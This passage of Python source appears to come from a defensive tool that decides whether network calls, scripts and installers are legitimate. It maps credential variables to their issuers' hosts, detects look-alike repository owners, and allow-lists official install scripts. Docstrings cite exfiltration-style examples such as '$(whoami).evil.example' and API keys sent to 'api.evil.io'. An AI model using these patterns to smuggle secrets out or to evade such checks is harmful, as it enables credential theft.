        ("PAGERDUTY_TOKEN", "PAGERDUTY_API_KEY", "PAGERDUTY_API_TOKEN", "PD_API_KEY"),
        ("api.pagerduty.com", "events.pagerduty.com", "*.pagerduty.com"),
    ),
    Issuer(
        "opsgenie",
        (),
        (),
        ("OPSGENIE_API_KEY",),
        ("api.opsgenie.com", "api.eu.opsgenie.com"),
    ),
    # game platforms' and chat platforms' own APIs, called with their own keys by game and community teams
    Issuer(
        "discord",
        (),
        (),
        ("DISCORD_TOKEN", "DISCORD_BOT_TOKEN", "DISCORD_CLIENT_SECRET"),
        ("discord.com", "discordapp.com"),
    ),
    Issuer(
        "steam",
        (),
        (),
        ("STEAM_WEB_API_KEY", "STEAM_API_KEY", "STEAM_PUBLISHER_KEY"),
        ("api.steampowered.com", "partner.steam-api.com", "partner.steamgames.com"),
    ),
    Issuer(
        "playfab",
        (),
        (),
        ("PLAYFAB_SECRET_KEY", "PLAYFAB_DEV_SECRET_KEY"),
        ("*.playfabapi.com",),
    ),
    Issuer(
        "eos",  # Epic Online Services
        (),
        (),
        ("EOS_CLIENT_ID", "EOS_CLIENT_SECRET", "EOS_DEPLOYMENT_ID"),
        ("api.epicgames.dev",),
    ),
    Issuer(
        "honeycomb",
        (),
        (),
        ("HONEYCOMB_API_KEY",),
        ("api.honeycomb.io", "api.eu1.honeycomb.io"),
    ),
    # Clerk's secret keys share Stripe's `sk_live_` prefix: they are told by their variable only
    Issuer("clerk", (), (), ("CLERK_SECRET_KEY", "CLERK_API_KEY"), ("api.clerk.com", "api.clerk.dev")),
    Issuer("resend", (), ("re_",), ("RESEND_API_KEY",), ("api.resend.com",)),
    # Algolia's keys go to the hosts named for the application (`APPID-dsn.algolia.net`)
    Issuer(
        "algolia",
        (),
        (),
        ("ALGOLIA_ADMIN_KEY", "ALGOLIA_API_KEY", "ALGOLIA_WRITE_KEY", "ALGOLIA_SEARCH_KEY"),
        ("*.algolia.net", "*.algolianet.com", "*.algolia.io", "analytics.algolia.com"),
    ),
    Issuer("neon", (), ("napi_",), ("NEON_API_KEY",), ("console.neon.tech", "api.neon.tech"), ("neonctl",)),
    Issuer(
        "planetscale",
        (),
        ("pscale_tkn_", "pscale_oauth_"),
        ("PLANETSCALE_SERVICE_TOKEN", "PLANETSCALE_TOKEN", "PLANETSCALE_SERVICE_TOKEN_ID"),
        ("api.planetscale.com",),
        ("pscale",),
    ),
    # Laravel's hosting services: Forge (servers, sites, deploys), Envoyer (zero-downtime deploys), Vapor
    Issuer("laravel-forge", (), (), ("FORGE_API_TOKEN", "FORGE_TOKEN"), ("forge.laravel.com",)),
    Issuer("envoyer", (), (), ("ENVOYER_API_TOKEN", "ENVOYER_TOKEN"), ("envoyer.io",)),
    Issuer("vapor", (), (), ("VAPOR_API_TOKEN",), ("vapor.laravel.com",), ("vapor",)),
    # package registries' publishing tokens: Packagist's API token, Maven Central's portal token
    Issuer(
        "packagist",
        (),
        (),
        ("PACKAGIST_API_TOKEN", "PACKAGIST_TOKEN"),
        ("packagist.org", "repo.packagist.com"),
    ),
    Issuer(
        "sonatype",
        (),
        (),
        ("SONATYPE_USERNAME", "SONATYPE_PASSWORD", "SONATYPE_TOKEN", "OSSRH_USERNAME", "OSSRH_PASSWORD"),
        ("central.sonatype.com", "s01.oss.sonatype.org", "oss.sonatype.org"),
    ),
    # Fly.io's tokens (`fly auth token`) go to its GraphQL API and its Machines API
    Issuer(
        "fly",
        (),
        ("FlyV1 fm1", "FlyV1 fm2", "fm1r_", "fm2_"),
        ("FLY_API_TOKEN", "FLY_ACCESS_TOKEN"),
        ("api.fly.io", "api.machines.dev"),
        ("fly", "flyctl"),
    ),
    # code analysis and data services developers call with their own keys: SonarCloud's, MongoDB Atlas's
    # administration API, NCBI's E-utilities, Seqera's platform (Nextflow Tower), Steam's and itch.io's
    Issuer(
        "sonar",
        (),
        ("sqp_", "squ_", "sqa_"),
        ("SONAR_TOKEN", "SONAR_LOGIN"),
        ("sonarcloud.io", "*.sonarcloud.io"),
    ),
    Issuer(
        "mongodb-atlas",
        (),
        (),
        ("ATLAS_PUBLIC_KEY", "ATLAS_PRIVATE_KEY", "MONGODB_ATLAS_PUBLIC_KEY", "MONGODB_ATLAS_PRIVATE_KEY"),
        ("cloud.mongodb.com",),
        ("atlas",),
    ),
    Issuer("ncbi", (), (), ("NCBI_API_KEY",), ("eutils.ncbi.nlm.nih.gov", "api.ncbi.nlm.nih.gov")),
    Issuer("seqera", (), (), ("TOWER_ACCESS_TOKEN",), ("api.cloud.seqera.io", "api.tower.nf")),
    Issuer(
        "steam",
        (),
        (),
        ("STEAM_API_KEY", "STEAM_PUBLISHER_KEY", "STEAM_WEB_API_KEY"),
        ("api.steampowered.com", "partner.steam-api.com"),
    ),
    Issuer("itch", (), (), ("BUTLER_API_KEY",), ("itch.io", "api.itch.io"), ("butler",)),
)

# Issuers whose hosts or paths name someone's own resource (a bucket, a webhook, a repository): the user's
# credential sent there proves nothing about whose resource receives the data (a public-write bucket takes
# anyone's signed upload), so only a request that carries nothing counts as the credential's plain use.
SHARED_ISSUERS = frozenset(
    {"aws", "google", "azure", "slack-webhook", "huggingface", "github", "gitlab", "okta", "discord"}
)

_ENV_REFERENCE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")

# Top-level domains platforms serve their users' own sites under (`x.netlify.app`, `x.github.io`)
_SITE_TLDS = frozenset({"app", "dev", "io", "page", "pages", "site", "run", "live", "cloud"})
# A host's leading label given by a variable named for a place (`https://$ZENDESK_SUBDOMAIN.zendesk.com`,
# `${SHOP}.myshopify.com`, `$TENANT_ID.auth0.com`): which account of the service, set by configuration, not
# data made into a name
_PLACE_LABEL = re.compile(
    r"^(?:\$\{?[A-Za-z_]*(?:SUBDOMAIN|TENANT|ORG|ORGANI[SZ]ATION|ACCOUNT|INSTANCE|SHOP|STORE|SITE|WORKSPACE"
    r"|DOMAIN|HOST|HOSTNAME|REGION|ENV|ENVIRONMENT|PROJECT|CLUSTER|NAMESPACE|REALM|COMPANY|TEAM|STAGE|APP"
    r"|SERVICE|BUCKET|PREFIX)(?:_NAME|_ID|_SLUG)?\}?[-.])+(?=[A-Za-z0-9-]+\.)",
    re.IGNORECASE,
)


def tenant_host(host: str) -> str:
    """`$ZENDESK_SUBDOMAIN.zendesk.com` as `tenant.zendesk.com`: a host whose leading labels are variables
    named for a place, with them written as one tenant's label; "" for any other host built at run time
    (`$(whoami).evil.example`, `$DATA.evil.example`), whose labels may carry data."""
    found = _PLACE_LABEL.match(host)
    if found is None:
        return ""
    rest = host[found.end() :]
    return "" if "$" in rest or "`" in rest else f"tenant.{rest}"


def _matches(host: str, globs: tuple[str, ...]) -> bool:
    return any(fnmatchcase(host, g) for g in globs)


@lru_cache(maxsize=128)  # the user's lists and every issuer's hosts
def _glob_matcher(globs: tuple[str, ...]) -> re.Pattern[str]:
    parts = []
    for glob in globs:
        glob = glob.strip().lower().rstrip(".")
        if not glob:
            continue
        if glob.startswith("."):  # `.example.com`: the domain and every subdomain
            parts.append(translate(glob[1:]))
            parts.append(translate("*" + glob))
        else:
            parts.append(translate(glob))
    return re.compile("|".join(f"(?:{p})" for p in parts) or r"(?!x)x")


# Publishers of the CI actions most workflows use (`uses: OWNER/REPO@REF`): an owner a letter or two away
# from one of them (`actons/checkout`) imitates it
ACTION_OWNERS = frozenset(
    {
        *("actions", "github", "docker", "aws-actions", "azure", "google-github-actions", "hashicorp"),
        *("codecov", "peter-evans", "softprops", "pnpm", "oven-sh", "astral-sh", "dtolnay", "swatinem"),
        *("golangci", "gradle", "ruby", "shivammathur", "denoland", "cachix", "pypa", "sigstore"),
        *("slsa-framework", "ossf", "step-security", "stefanzweifel", "dorny", "reviewdog", "crazy-max"),
        *("coverallsapp", "sonarsource", "snyk", "anchore", "aquasecurity", "jamesives", "mikepenz"),
        *("gitleaks", "trufflesecurity", "release-drafter", "actions-rs", "erlef", "subosito"),
        # science's and game development's (R, Julia, conda, Unity builds)
        *("r-lib", "julia-actions", "conda-incubator", "mamba-org", "prefix-dev", "game-ci", "nf-core"),
        # language and platform teams' own (the Go team's `golang/govulncheck-action`, Helm's, JetBrains')
        *(
            "golang",
            "goreleaser",
            "helm",
            "kubernetes-sigs",
            "fluxcd",
            "bufbuild",
            "jetbrains",
            "android-actions",
        ),
        *("google", "microsoft", "pulumi", "terraform-linters", "opentofu", "ko-build", "sigstore"),
    }
)


# Owners of the repositories projects take code from by address (pre-commit hooks, dbt packages, git
# dependencies), beside the actions' owners: an owner named like one of them (`pre-commit-hook`,
# `dbt-labs-community`, `vuejs-core`) poses as it
SOURCE_OWNERS = ACTION_OWNERS | frozenset(
    {
        *("pre-commit", "pre-commit-ci", "psf", "pycqa", "python", "pallets", "django", "encode", "tiangolo"),
        *(
            "pydantic",
            "sqlalchemy",
            "numpy",
            "pandas-dev",
            "scikit-learn",
            "pytorch",
            "huggingface",
            "dbt-labs",
        ),
        *("apache", "vuejs", "facebook", "microsoft", "google", "googleapis", "vercel", "nodejs", "npm"),
        *("expressjs", "nestjs", "angular", "sveltejs", "tailwindlabs", "prisma", "supabase", "stripe"),
        *("getsentry", "firebase", "laravel", "symfony", "spatie", "rails", "golang", "kubernetes", "helm"),
        *("aws", "awslabs", "aws-samples", "aws-cloudformation", "hashicorp", "grafana", "prometheus"),
        *("open-telemetry", "elastic", "rust-lang", "tokio-rs", "serde-rs", "jetbrains", "square"),
        *("fastlane", "cocoapods", "airbnb", "pre-commit-hooks", "astral-sh", "psf", "charliermarsh"),
        *("phoenixframework", "elixir-lang", "elixir-ecto", "dashbitco", "elixir-nx", "livebook-dev"),
        *(
            "apple",
            "swiftlang",
            "alamofire",
            "onevcat",
            "realm",
            "square",
            "jakewharton",
            "gradle",
            "android",
        ),
        # embedded work's: the chips' vendors, RTOS projects, board tools and their best-known libraries
        *("espressif", "zephyrproject-rtos", "platformio", "arduino", "adafruit", "sparkfun", "bblanchon"),
        *("knolleary", "stm32duino", "raspberrypi", "nrfconnect", "openocd-org", "arduino-libraries"),
        # science's: workflow communities, language organisations, package channels
        *(
            "nextflow-io",
            "snakemake",
            "snakemake-workflows",
            "bioconda",
            "conda-forge",
            "biojulia",
        ),
        *(
            "julialang",
            "bioconductor",
            "ropensci",
            "rstudio",
            "posit-dev",
            "tidyverse",
            "rocker-org",
        ),
        # game development's: engines and their best-known tool chains
        *("unity-technologies", "godotengine", "epicgames", "valvesoftware", "cysharp"),
        # a workstation's: package managers, shells and their plugin authors, version managers, the terminal
        # tools every dotfiles repository installs
        *("homebrew", "zsh-users", "ohmyzsh", "romkatv", "asdf-vm", "jdx", "junegunn", "sharkdp"),
        *("burntsushi", "jorgebucaran", "tmux-plugins", "neovim", "folke", "twpayne", "starship", "direnv"),
        *("nix-community", "nixos", "ajeetdsouza", "eza-community", "dandavison", "catppuccin"),
        # desktop apps' and browser extensions' frameworks, and the services SaaS code integrates
        *("electron", "electron-userland", "tauri-apps", "mozilla", "sparkle-project", "twilio", "sendgrid"),
        *("shopify", "salesforce", "forcedotcom", "hubspot", "intuit", "cloudflare", "tailscale", "datadog"),
    }
)
# What an impostor hangs on a known owner's name
_OWNER_DECORATIONS = (
    *("community", "core", "team", "oss", "official", "org", "dev", "labs", "hq", "io", "js", "tools", "hub"),
    *("hook", "hooks", "plugins", "mirror", "releases", "fork", "inc", "app", "ci", "cd"),
    *("rs", "go", "py", "extra", "extras", "builds", "cli", "fish", "zsh", "nvim"),
)


def imitated_owner(owner: str) -> str:
    """The well-known repository owner `owner` poses as ("" for none or one of them): a near miss of its
    name, or its name with a word hung on it (`dbt-labs-community`, `pre-commit-hook`)."""
    owner = owner.lower()
    if owner in SOURCE_OWNERS or len(owner) < 4:
        return ""
    read = confusable_skeleton(owner)  # (`h0mebrew-core`: a decorated name spelt with look-alike letters)
    for known in SOURCE_OWNERS:
        if len(known) >= 4 and any(
            form in (f"{known}-{d}", f"{d}-{known}", f"{known}{d}", f"{known}_{d}")
            for d in _OWNER_DECORATIONS
            for form in (owner, read)
        ):
            return known
    return imitates(owner, SOURCE_OWNERS)


# The actions most workflows use, by their repository: the same repository name under another owner
# (`actions-dev99/checkout`) poses as one of them
KNOWN_ACTIONS = frozenset(
    {
        *("actions/checkout", "actions/setup-node", "actions/setup-python", "actions/setup-go"),
        *("actions/setup-java", "actions/cache", "actions/upload-artifact", "actions/download-artifact"),
        *("actions/github-script", "actions/create-release", "actions/labeler", "actions/stale"),
        *("docker/login-action", "docker/build-push-action", "docker/setup-buildx-action"),
        *("docker/setup-qemu-action", "docker/metadata-action", "aws-actions/configure-aws-credentials"),
        *("google-github-actions/auth", "azure/login", "softprops/action-gh-release"),
        *("codecov/codecov-action", "pypa/gh-action-pypi-publish", "astral-sh/setup-uv"),
        *("dtolnay/rust-toolchain", "swatinem/rust-cache"),
        *("golangci/golangci-lint-action", "gradle/actions", "ruby/setup-ruby", "shivammathur/setup-php"),
        *("peaceiris/actions-gh-pages", "pnpm/action-setup", "oven-sh/setup-bun", "denoland/setup-deno"),
    }
)


def imitates(name: str, known: frozenset[str] | tuple[str, ...]) -> str:
    """The one of `known` that `name` is a near miss of (one edit, or two for names of eight letters or
    more; a swap of neighbours counts as one), or reads as when letters that look alike are taken for each
    other (`prisrna` for `prisma`, `BioJu1ia` for `biojulia`); "" when it is one of them or like none (a
    typosquat's test, case-insensitive)."""
    skeleton = confusable_skeleton(name)
    name = name.lower()
    if len(name) < 4 or name in known:
        return ""
    for candidate in known:
        limit = 2 if len(candidate) >= 8 else 1
        if abs(len(candidate) - len(name)) <= limit and _edits(name, candidate, limit) <= limit:
            return candidate
    return _skeletons(known).get(skeleton, "")


# Letters and pairs that read as others in most fonts: `rn` as `m`, `vv` as `w`, `0` as `o`, `1`, `I` and
# `|` as `l`, `5` as `s`
_CONFUSED = str.maketrans("01|5", "olls")


def confusable_skeleton(name: str) -> str:
    """`name` as it reads: confusable letters and pairs taken as the ones they look like, lower case."""
    return name.replace("I", "l").lower().replace("rn", "m").replace("vv", "w").translate(_CONFUSED)


@functools.lru_cache(maxsize=64)
def _skeletons(known: frozenset[str] | tuple[str, ...]) -> dict[str, str]:
    return {confusable_skeleton(candidate): candidate for candidate in known}


def within_edits(a: str, b: str, limit: int) -> bool:
    """`a` and `b` differ by at most `limit` edits (a swap of neighbours counting as one)."""
    return abs(len(a) - len(b)) <= limit and _edits(a.lower(), b.lower(), limit) <= limit


def _edits(a: str, b: str, limit: int) -> int:
    """Optimal string alignment distance of `a` and `b` (insertions, deletions, substitutions and swaps of
    neighbours), counted up to `limit + 1`."""
    before: list[int] = []
    previous = list(range(len(b) + 1))
    for i, x in enumerate(a, 1):
        current = [i]
        for j, y in enumerate(b, 1):
            cost = min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + (x != y))
            if i > 1 and j > 1 and x == b[j - 2] and a[i - 2] == y:
                cost = min(cost, before[j - 2] + 1)
            current.append(cost)
        if min(current) > limit:
            return limit + 1
        before, previous = previous, current
    return previous[-1]


def host_in(host: str, globs: tuple[str, ...] | list[str]) -> bool:
    """`host` (normalised) matches one of `globs`: fnmatch patterns such as `*.github.com`, or a leading dot
    for "this domain and every subdomain" (`.corp.example`). The one matcher of trusted-host lists."""
    host = host.lower().rstrip(".")
    return bool(host) and _glob_matcher(tuple(globs)).match(host) is not None


@lru_cache(maxsize=512)
def issuers_of_client(program: str) -> frozenset[str]:
    """The issuers whose credential a command-line client carries itself (`az`: Azure's)."""
    return frozenset(i.name for i in ISSUERS if program in i.clis) if program else frozenset()


@lru_cache(maxsize=1024)  # every destination of every call asks; the issuer table never changes
def issuers_for_host(host: str) -> frozenset[str]:
    """The issuers whose credentials `host` accepts (`api.github.com` -> {"github"})."""
    host = host.lower().rstrip(".")
    return frozenset(i.name for i in ISSUERS if host and _matches(host, i.hosts))


@lru_cache(maxsize=512)
def first_party_api(host: str) -> bool:
    """`host` is named, as it is, by an issuer whose hosts serve only the issuer (`api.pagerduty.com`):
    a credential in a request's authorization to it is that service's, whatever its shape, since no one
    else reads it there. A host matched only by a glob (`someone.supabase.co`, an API gateway on
    `*.amazonaws.com`) may run anyone's code, and a shared issuer's host names anyone's resource."""
    host = host.lower().rstrip(".")
    return any(host in i.hosts for i in ISSUERS if i.name not in SHARED_ISSUERS)


# Where each credential kind (a `limen.rules.secrets` kind name) is meant to go.
ISSUER_HOSTS: dict[str, tuple[str, ...]] = {k: i.hosts for i in ISSUERS for k in i.kinds}


def issuer_of_value(value: str) -> str:
    """The issuer a literal credential's prefix names ("" if none); the longest prefix wins (`sk-ant-`)."""
    best, length = "", 0
    for issuer in ISSUERS:
        for prefix in issuer.prefixes:
            if value.startswith(prefix) and len(prefix) > length:
                best, length = issuer.name, len(prefix)
    return best


# A variable named after an issuer that holds a credential: `STRIPE_KEY`, `SENTRY_TOKEN`, `VERCEL_API_SECRET`
_CREDENTIAL_WORD = re.compile(r"(?:^|_)(?:KEY|TOKEN|SECRET|PAT|SK)(?:_|$)")


def issuers_of_credentials(text: str) -> frozenset[str]:
    """Issuers whose credentials `text` refers to by their conventional variables (`$OPENAI_API_KEY`,
    `${GITHUB_TOKEN}`, or the issuer's name and a credential word: `$STRIPE_KEY`): the user's own
    environment, so the user's own account."""
    if "$" not in text:
        return frozenset()
    names = {m.group(1) for m in _ENV_REFERENCE.finditer(text)}
    return frozenset(i.name for i in ISSUERS if names.intersection(i.env) or _named_for(i, names))


def _named_for(issuer: Issuer, names: set[str]) -> bool:
    prefix = issuer.name.upper().replace("-", "_") + "_"
    bare = {_PUBLIC_BUILD_PREFIX.sub("", n) for n in names}
    return any(n.startswith(prefix) and _CREDENTIAL_WORD.search(n[len(prefix) - 1 :]) for n in bare)


def named_vendor_api(host: str, texts: Iterable[str], path: str = "") -> bool:
    """A service the issuer table does not know, called at its own API with its own credential: every
    credential variable the texts refer to begins with the name the host is registered under, and the API
    is that domain's `api` host (`$TELNYX_API_KEY` to `api.telnyx.com`, `-u $PLIVO_AUTH_ID:$PLIVO_AUTH_TOKEN`
    to `api.plivo.com`) or the `/api/` path of the domain itself (`$DISCORD_BOT_TOKEN` to
    `discord.com/api/v10/...`) or of the user's own tenant of it, named by a variable of the environment
    (`$ZENDESK_API_TOKEN` to `https://$ZENDESK_SUBDOMAIN.zendesk.com/api/v2`, `tenant_host`). A variable is
    named after the service whose account it holds, and the service answers under its own name; a tenant's
    site on a platform written out (`x.netlify.app`), a look-alike (`api.telnyx-cdn.com`) or another
    service's host (`$TELNYX_API_KEY` to `api.evil.io`) is not that."""
    vendor = registrable_name(host)
    host = host.lower()
    first = host.split(".", 1)[0]
    api_host = first.startswith("api") and host.count(".") == 2
    domain = registered_domain(host)
    own_tenant = host == f"tenant.{domain}" and domain.rsplit(".", 1)[-1] not in _SITE_TLDS
    api_path = (host.removeprefix("www.") == domain or own_tenant) and path.lower().startswith("/api/")
    if len(vendor) < 3 or not (api_host or api_path):
        return False
    names = {_PUBLIC_BUILD_PREFIX.sub("", m.group(1)) for t in texts for m in _ENV_REFERENCE.finditer(t)}
    credentials = [n for n in names if _CREDENTIAL_WORD.search(n)]
    prefix = vendor.upper().replace("-", "_") + "_"
    return bool(credentials) and all(n.startswith(prefix) for n in credentials)


# What front-end builds put before the variables they ship to every browser (`NEXT_PUBLIC_SUPABASE_ANON_KEY`
# is Supabase's anonymous key): the name after it still says whose it is
_PUBLIC_BUILD_PREFIX = re.compile(r"^(?:NEXT_PUBLIC|NUXT_PUBLIC|VITE|REACT_APP|EXPO_PUBLIC|PUBLIC|GATSBY)_")


# --------------------------------------------------------------------------- script hosts

# Where web pages load scripts from: the public CDNs and the services whose own script a page includes. A
# page's `<script src>` on another host, or on one named like these (`cdn.jsdeliver.net`), runs that host's
# code in every visitor's browser.
SCRIPT_HOSTS: tuple[str, ...] = (
    *("cdn.jsdelivr.net", "unpkg.com", "cdnjs.cloudflare.com", "code.jquery.com", "ajax.googleapis.com"),
    *("esm.sh", "cdn.skypack.dev", "ga.jspm.io", "cdn.tailwindcss.com", "stackpath.bootstrapcdn.com"),
    *("cdn.jsdelivr.com", "www.googletagmanager.com", "www.google-analytics.com", "js.stripe.com"),
    *("www.google.com", "www.gstatic.com", "challenges.cloudflare.com", "browser.sentry-cdn.com"),
    *("cdn.plot.ly", "cdn.datatables.net", "polyfill.io", "static.cloudflareinsights.com"),
    # privacy-minded analytics and site search, each from its own host
    *("plausible.io", "cdn.usefathom.com", "cloud.umami.is", "giscus.app", "utteranc.es"),
    # the registries and CDNs Deno and browsers import modules from by URL
    *("deno.land", "jsr.io", "esm.run", "cdn.esm.sh", "dev.jspm.io", "cdn.pika.dev", "raw.esm.sh"),
)


# --------------------------------------------------------------------------- documentation

DOC_HOSTS: tuple[str, ...] = (
    "docs.python.org",
    "peps.python.org",
    "packaging.python.org",
    "developer.mozilla.org",
    "*.readthedocs.io",
    "readthedocs.org",
    "*.readthedocs.org",
    "docs.rs",
    "doc.rust-lang.org",
    "pkg.go.dev",
    "go.dev",
    "learn.microsoft.com",
    "docs.microsoft.com",
    "docs.github.com",
    "docs.gitlab.com",
    "docs.npmjs.com",
    "nodejs.org",
    "docs.djangoproject.com",
    "flask.palletsprojects.com",
    "fastapi.tiangolo.com",
    "docs.pydantic.dev",
    "numpy.org",
    "pandas.pydata.org",
    "docs.scipy.org",
    "matplotlib.org",
    "scikit-learn.org",
    "pytorch.org",
    "docs.docker.com",
    "kubernetes.io",
    "helm.sh",
    "docs.aws.amazon.com",
    "cloud.google.com",
    "en.cppreference.com",
    "cppreference.com",
    "man7.org",
    "www.man7.org",
    "manpages.debian.org",
    "www.typescriptlang.org",
    "react.dev",
    "vuejs.org",
    "docs.oracle.com",
    "docs.astral.sh",
    "docs.pytest.org",
    "mypy.readthedocs.io",
    "www.postgresql.org",
    "dev.mysql.com",
    "sqlite.org",
    "www.sqlite.org",
    "git-scm.com",
    "www.gnu.org",
    "docs.anthropic.com",
    "platform.openai.com",
    "docs.ruby-lang.org",
    "ruby-doc.org",
    "www.php.net",
    "docs.swift.org",
    "kotlinlang.org",
    "docs.deno.com",
    "bun.sh",
    "www.npmjs.com",
    # questions and answers, reference wikis, and the docs of common tools and frameworks
    "stackoverflow.com",
    "*.stackoverflow.com",
    "serverfault.com",
    "superuser.com",
    "askubuntu.com",
    "*.stackexchange.com",
    "en.wikipedia.org",
    "wiki.archlinux.org",
    "developer.android.com",
    "developer.apple.com",
    "docs.gradle.org",
    "maven.apache.org",
    "nextjs.org",
    "expressjs.com",
    "angular.dev",
    "svelte.dev",
    "vite.dev",
    "vitejs.dev",
    "webpack.js.org",
    "jestjs.io",
    "vitest.dev",
    "eslint.org",
    "prettier.io",
    "tailwindcss.com",
    "redis.io",
    "www.mongodb.com",
    "nginx.org",
    "docs.ansible.com",
    "developer.hashicorp.com",
    "registry.terraform.io",
    "docs.celeryq.dev",
    "docs.sqlalchemy.org",
)


@lru_cache(maxsize=512)
def is_documentation(host: str) -> bool:
    """`host` serves documentation (exact name or `*.` glob of `DOC_HOSTS`)."""
    host = host.lower().rstrip(".")
    return bool(host) and _matches(host, DOC_HOSTS)


# --------------------------------------------------------------------------- official installers

# (host, path prefix): the installer a project publishes on its own host. The prefix is compared on the
# lower-cased path, which must be plain (no dot segments, no percent-encoding, no backslash).
OFFICIAL_INSTALLERS: tuple[tuple[str, str], ...] = (
    ("sh.rustup.rs", "/"),
    ("static.rust-lang.org", "/rustup/"),
    ("astral.sh", "/uv/"),
    ("astral.sh", "/ruff/"),
    ("raw.githubusercontent.com", "/nvm-sh/nvm/"),
    ("bun.sh", "/install"),
    ("deno.land", "/install.sh"),
    ("deno.land", "/x/install/"),
    ("raw.githubusercontent.com", "/homebrew/install/"),
    ("get.pnpm.io", "/install.sh"),
    ("install.python-poetry.org", "/"),
    ("pyenv.run", "/"),
    ("get.sdkman.io", "/"),
    ("sh.volta.sh", "/"),
    ("get.volta.sh", "/"),
    ("fnm.vercel.app", "/install"),
    ("get.docker.com", "/"),
    ("install.determinate.systems", "/nix"),
    ("nixos.org", "/nix/install"),
    ("opam.ocaml.org", "/install.sh"),
    ("raw.githubusercontent.com", "/ocaml/opam/master/shell/install.sh"),
    ("get-ghcup.haskell.org", "/"),
    ("install.julialang.org", "/"),
    # configuration management's own bootstrap scripts (Chef's omnitruck, Salt's bootstrap)
    ("omnitruck.chef.io", "/install.sh"),
    ("bootstrap.saltproject.io", "/"),
    # projects' own release binaries, installed by downloading them into a bin folder
    ("dl.k8s.io", "/release/"),
    ("get.helm.sh", "/"),
    ("raw.githubusercontent.com", "/helm/helm/main/scripts/get-helm-"),  # Helm's documented script
    ("istio.io", "/downloadistio"),
    ("releases.hashicorp.com", "/"),
    ("deb.nodesource.com", "/setup_"),
    # platforms' own CLIs
    ("cli-assets.heroku.com", "/install"),
    ("fly.io", "/install.sh"),
    ("awscli.amazonaws.com", "/awscli-exe-"),
    ("sdk.cloud.google.com", "/"),
    ("aka.ms", "/installazurecli"),
    # Microsoft's: the Azure Developer CLI, Azure Artifacts' credential provider, the .NET SDK, Bicep
    ("aka.ms", "/install-azd."),
    ("aka.ms", "/install-artifacts-credprovider."),
    ("dot.net", "/v1/dotnet-install."),
    # Windows' package managers and shells, by the PowerShell one-liners their sites give
    ("get.scoop.sh", "/"),
    ("community.chocolatey.org", "/install.ps1"),
    ("aka.ms", "/install-powershell.ps1"),
    ("win.rustup.rs", "/"),
    ("dotnet.microsoft.com", "/download/dotnet/scripts/"),
    ("builds.dotnet.microsoft.com", "/dotnet/scripts/"),
    # Firebase's, Sentry's and Expo's own CLIs
    ("firebase.tools", "/"),
    ("sentry.io", "/get-cli/"),
    ("cli.sentry.dev", "/"),
    ("cli.github.com", "/packages/"),
    ("get.jetify.com", "/devbox"),
    ("raw.githubusercontent.com", "/stripe/stripe-cli/"),
    # data platforms' CLIs: Databricks', Snowflake's SnowSQL, Astronomer's astro, DuckDB
    ("raw.githubusercontent.com", "/databricks/setup-cli/"),
    ("sfc-repo.snowflakecomputing.com", "/snowsql/bootstrap/"),
    ("install.astronomer.io", "/"),
    ("install.duckdb.org", "/"),
    # infrastructure and developer tools' documented scripts
    ("get.pulumi.com", "/"),
    ("get.opentofu.org", "/install-opentofu.sh"),
    ("cli.doppler.com", "/install.sh"),
    ("tailscale.com", "/install.sh"),
    ("ollama.com", "/install.sh"),
    ("mise.run", "/"),
    ("starship.rs", "/install.sh"),
    ("get.k3s.io", "/"),
    ("fluxcd.io", "/install.sh"),
    ("wasmtime.dev", "/install.sh"),
    ("rustwasm.github.io", "/wasm-pack/installer/"),
    ("bootstrap.pypa.io", "/get-pip.py"),
    ("get.haskellstack.org", "/"),
    ("raw.githubusercontent.com", "/aquasecurity/trivy/main/contrib/install.sh"),
    ("raw.githubusercontent.com", "/anchore/grype/main/install.sh"),
    ("raw.githubusercontent.com", "/anchore/syft/main/install.sh"),
    ("raw.githubusercontent.com", "/superfly/flyctl/master/installers/"),
    # PHP's: Composer's installer, WP-CLI's release build, probe-rs' and espup's for embedded Rust
    ("getcomposer.org", "/installer"),
    ("get.symfony.com", "/cli/installer"),
    ("laravel.build", "/"),
    ("getcomposer.org", "/download/"),
    ("raw.githubusercontent.com", "/wp-cli/builds/gh-pages/phar/"),
    ("github.com", "/probe-rs/probe-rs/releases/"),
    # compilers' and data science distributions' own installers (LLVM's apt script, Anaconda's Miniconda)
    ("apt.llvm.org", "/llvm.sh"),
    ("repo.anaconda.com", "/miniconda/"),
    ("repo.anaconda.com", "/archive/"),
    # smart-contract toolchains' own installers (Foundry's foundryup, Anza's Solana CLI), Elixir's script,
    # and Microsoft's package that adds its apt repository
    ("foundry.paradigm.xyz", "/"),
    ("release.anza.xyz", "/"),
    ("elixir-lang.org", "/install.sh"),
    ("packages.microsoft.com", "/config/"),
)


_INSTALLER_HOSTS = frozenset(h for h, _ in OFFICIAL_INSTALLERS)


@lru_cache(maxsize=1024)
def is_official_installer(url: str) -> bool:
    """`url` is an official installer script on its project's own host, fetched over https with nothing
    that could make it another URL (userinfo, a port, dot segments, encoding, a query)."""
    if url.partition("://")[2].partition("/")[0].lower().rstrip(".") not in _INSTALLER_HOSTS:
        return False  # the common case, decided without parsing
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return False
    if parts.scheme.lower() != "https" or "@" in parts.netloc or parts.query or parts.fragment:
        return False
    host = parts.netloc.lower().rstrip(".")
    path = parts.path.lower() or "/"
    if ":" in host or not host.isascii() or any(c in path for c in "%\\") or "/." in path or "//" in path:
        return False
    if host == "github.com" and (raw := _GITHUB_RAW.match(path)):  # `github.com/O/R/raw/REF/x`: the same file
        host, path = "raw.githubusercontent.com", f"/{raw.group(1)}/{raw.group(2)}"
    if host == "raw.githubusercontent.com" and _OWN_REPOSITORY_INSTALLER.match(path):
        from limen.facts.packages import used

        if used("github", "/".join(path.split("/")[1:3])):
            return True  # a widely used project's own script, in its repository
    if host == "github.com" and (release := _RELEASE_OF.match(path)):
        from limen.facts.packages import used

        if used("github", release.group(1)):
            return True  # a widely used project's own release (`github.com/kitware/cmake/releases/...`)
    return any(host == h and path.startswith(prefix) for h, prefix in OFFICIAL_INSTALLERS)


# An install script at a path of a repository on GitHub (`/OWNER/REPO/REF/.../install.sh`, `.../get-x.sh`,
# `.../bin/rbenv-installer`)
_OWN_REPOSITORY_INSTALLER = re.compile(
    r"/[\w.-]+/[\w.-]+/[\w.-]+/(?:[\w.-]+/){0,4}(?:(?:install|get)[\w.-]*\.sh|[\w.-]*-installer(?:\.sh)?)$"
)
# GitHub's own spelling of a raw file (`/OWNER/REPO/raw/REF/PATH`) and of a release's file
_GITHUB_RAW = re.compile(r"^/([\w.-]+/[\w.-]+)/raw/(.+)$")
